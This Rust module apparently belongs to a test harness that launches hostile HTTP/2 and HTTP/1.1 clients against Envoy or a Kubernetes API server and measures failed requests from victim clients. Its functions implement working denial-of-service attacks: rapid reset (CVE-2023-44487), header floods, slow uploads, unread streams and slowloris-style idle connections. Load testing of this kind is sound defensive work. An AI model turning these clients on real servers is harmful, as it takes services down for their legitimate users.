//! Clients that take as much as they can of what a server shares among its clients, and other
//! clients that count what that does to them.
//!
//! ```text
//!   Hostile::start(Kind, …) ─▶ Envoy, or one server ◀─ failed_requests(victims)
//! ```
//!
//! A client whose connection is closed opens another. All of its loops are bounded: it sends at
//! most [`MOST_BATCHES`] batches of requests, and stops when its handle is dropped.

use std::time::Duration;

use anyhow::Result;
use futures_util::future::join_all;
use tokio::task::JoinSet;
use wire::client::Client;
use wire::frames::Field;
use wire::raw::{Answer, Raw, Request, Two};

/// As many streams as kube-apiserver allows on a connection.
pub const STREAMS: usize = 100;

/// A client of [`Kind::Idle`] has so many connections instead of one.
pub const IDLE_CONNECTIONS: usize = 40;

/// The requests that a victim sends.
pub const REQUESTS: usize = 15;

/// A victim gives up a request after this time.
const PATIENCE: Duration = Duration::from_secs(5);

/// A victim waits so long between two requests, so that they meet all phases of an attack.
const PAUSE: Duration = Duration::from_millis(100);

/// Until a client that found no server, or was sent away, tries again.
const AGAIN: Duration = Duration::from_millis(20);

/// How long a client waits for an answer before it opens another connection.
const LIMIT: Duration = Duration::from_secs(10);

/// The largest number of batches of requests that a client sends.
const MOST_BATCHES: usize = 10_000;

/// The bytes of headers in a request of [`Kind::Headers`]: almost all that Envoy accepts.
const HEADER_BYTES: usize = 56 << 10;
/// The headers among which they are.
const HEADERS: usize = 80;

/// What a hostile client does on each of its connections.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// It asks for [`Target::streams`] large lists or watches, and reads nothing.
    Unread,
    /// It does the same with lists that the API server is to give up after a second: the server
    /// resets their streams.
    GivenUp,
    /// It begins [`Target::streams`] requests with bodies, and sends a byte of each now and then.
    Uploads,
    /// It resets each request at once (CVE-2023-44487, "rapid reset").
    Resets,
    /// It sends as many and as long headers as are accepted.
    Headers,
    /// It sends tokens that are not valid. With `UnauthenticatedHTTP2DOSMitigation`, each costs a
    /// connection to a server.
    Denials,
    /// It asks for types that no server knows.
    UnknownTypes,
    /// It opens [`IDLE_CONNECTIONS`] connections of HTTP/1.1. Half of them stop in the middle of a request.
    Idle,
}

impl Kind {
    /// All of them.
    pub const ALL: [Self; 8] = [
        Self::Unread,
        Self::GivenUp,
        Self::Uploads,
        Self::Resets,
        Self::Headers,
        Self::Denials,
        Self::UnknownTypes,
        Self::Idle,
    ];
}

/// The paths that hostile clients ask for.
#[derive(Debug, Clone)]
pub struct Target {
    /// What to connect to.
    pub raw: Raw,
    /// A valid token.
    pub token: String,
    /// A list or watch that is larger than all buffers on its way.
    pub large: String,
    /// The streams of a connection, for kinds that keep streams open: at most [`STREAMS`].
    pub streams: usize,
}

/// Hostile clients at work; dropping it closes their connections.
#[derive(Debug)]
pub struct Hostile {
    // Aborted with the handle.
    _clients: JoinSet<()>,
}

impl Hostile {
    /// Starts so many clients of a kind.
    pub fn start(kind: Kind, target: &Target, clients: usize) -> Self {
        let mut tasks = JoinSet::new();
        for number in 0..clients {
            tasks.spawn(client(kind, target.clone(), number));
        }
        Self { _clients: tasks }
    }
}

async fn client(kind: Kind, target: Target, number: usize) {
    let mut sent = 0;
    while sent < MOST_BATCHES {
        // A connection that fails is what a hostile client expects.
        connection(kind, &target, number, &mut sent).await.ok();
        tokio::time::sleep(AGAIN).await;
    }
}

/// Misuses one connection until it is closed.
async fn connection(kind: Kind, target: &Target, number: usize, sent: &mut usize) -> Result<()> {
    if kind == Kind::Idle {
        *sent += 1;
        return idle(&target.raw).await;
    }
    let mut connection = target.raw.two().await?;
    while *sent < MOST_BATCHES {
        *sent += 1;
        match kind {
            Kind::Unread => return unread(&mut connection, target, "").await,
            Kind::GivenUp => return unread(&mut connection, target, "?timeout=1s").await,
            Kind::Uploads => return uploads(&mut connection, target).await,
            Kind::Resets => resets(&mut connection, target).await?,
            Kind::Headers => {
                let flood = (0..HEADERS).map(|header| {
                    field(&format!("x-flood-{header}"), &"f".repeat(HEADER_BYTES / HEADERS))
                });
                let headers = request("GET", "/version", &target.token).into_iter().chain(flood);
                answered(&mut connection, headers.collect()).await?;
            }
            Kind::Denials => {
                let path = "/api/v1/namespaces";
                answered(&mut connection, request("GET", path, "not-a-token")).await?;
            }
            Kind::UnknownTypes => {
                let path = format!("/apis/unknown-{number}-{sent}.example/v1/things/x");
                answered(&mut connection, request("GET", &path, &target.token)).await?;
            }
            Kind::Idle => {}
        }
    }
    Ok(())
}

async fn idle(raw: &Raw) -> Result<()> {
    let mut connections = Vec::new();
    for number in 0..IDLE_CONNECTIONS {
        let mut connection = raw.one().await?;
        if number % 2 == 0 {
            connection.send(b"GET /version HTTP/1.1\r\nhost: localhost\r\nx-unfinished: ").await?;
        }
        connections.push(connection);
    }
    // They stay until the handle is dropped, open or closed.
    std::future::pending().await
}

async fn unread(connection: &mut Two, target: &Target, query: &str) -> Result<()> {
    for _ in 0..target.streams {
        let headers = request("GET", &format!("{}{query}", target.large), &target.token);
        connection.send(&Request { headers, ..Request::default() }).await?;
    }
    std::future::pending().await
}

async fn uploads(connection: &mut Two, target: &Target) -> Result<()> {
    let mut streams = Vec::new();
    for _ in 0..target.streams {
        let mut headers = request("POST", "/api/v1/namespaces/default/configmaps", &target.token);
        headers.push(field("content-type", "application/json"));
        headers.push(field("content-length", "1048576"));
        streams.push(connection.begin(&headers).await?);
    }
    loop {
        for &stream in &streams {
            connection.send_data(stream, b" ").await?;
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}

/// The last request of a batch is an ordinary one: who waits for its answer reads all that the
/// server says.
async fn resets(connection: &mut Two, target: &Target) -> Result<()> {
    let headers = request("GET", "/api/v1/namespaces", &target.token);
    for _ in 1..STREAMS {
        let request = Request { headers: headers.clone(), ..Request::default() };
        let stream = connection.send(&request).await?;
        connection.reset(stream).await?;
    }
    answered(connection, headers).await
}

/// Fails if the connection is of no more use.
async fn answered(connection: &mut Two, headers: Vec<Field>) -> Result<()> {
    let stream = connection.send(&Request { headers, ..Request::default() }).await?;
    match connection.answer(stream, LIMIT).await {
        Answer::Status(_) | Answer::Reset(_) => Ok(()),
        Answer::Closed | Answer::Silence => anyhow::bail!("the connection was closed"),
    }
}

fn request(method: &str, path: &str, token: &str) -> Vec<Field> {
    vec![
        field(":method", method),
        field(":scheme", "https"),
        field(":authority", "localhost"),
        field(":path", path),
        field("authorization", &format!("Bearer {token}")),
    ]
}

fn field(name: &str, value: &str) -> Field {
    (name.as_bytes().to_vec(), value.as_bytes().to_vec())
}

/// Has each of these clients send [`REQUESTS`] requests, one after the other. Returns what became of
/// those that are not answered with 200 within five seconds.
pub async fn failed_requests(victims: &[Client], path: &str) -> Vec<String> {
    let each = victims.iter().map(async |victim| {
        let mut failed = Vec::new();
        for _ in 0..REQUESTS {
            match tokio::time::timeout(PATIENCE, victim.get(path)).await {
                Ok(Ok(answer)) if answer.status == 200 => {}
                Ok(Ok(answer)) => failed.push(format!("{}: {}", answer.status, answer.text())),
                Ok(Err(error)) => failed.push(format!("{error:#}")),
                Err(_) => failed.push("no answer in time".to_owned()),
            }
            tokio::time::sleep(PAUSE).await;
        }
        failed
    });
    join_all(each).await.into_iter().flatten().collect()
}
